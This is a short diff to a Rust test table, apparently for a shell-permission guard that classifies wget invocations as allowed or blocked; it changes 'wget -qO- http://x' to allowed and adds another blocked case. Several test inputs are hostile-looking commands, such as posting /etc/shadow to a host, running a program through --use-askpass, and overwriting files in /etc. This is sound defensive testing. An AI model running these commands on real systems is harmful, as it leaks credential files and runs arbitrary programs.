@@ -6,7 +6,8 @@ use super::Case;
 pub const CASES: &[Case] = &[
     ("wget *", "wget -q --spider http://x", "allow"),
     ("wget *", "wget -O /etc/x http://x", "escape_guard"),
-    ("wget *", "wget -qO- http://x", "escape_guard"),
+    ("wget *", "wget -qO- http://x", "allow"),
+    ("wget *", "wget -qOx http://x", "escape_guard"),
     ("wget *", "wget --post-file=/etc/shadow http://x", "escape_guard"),
     ("wget *", "wget --use-askpass=id http://x", "escape_guard"),
     ("wget *", "wget -i x", "escape_guard"),
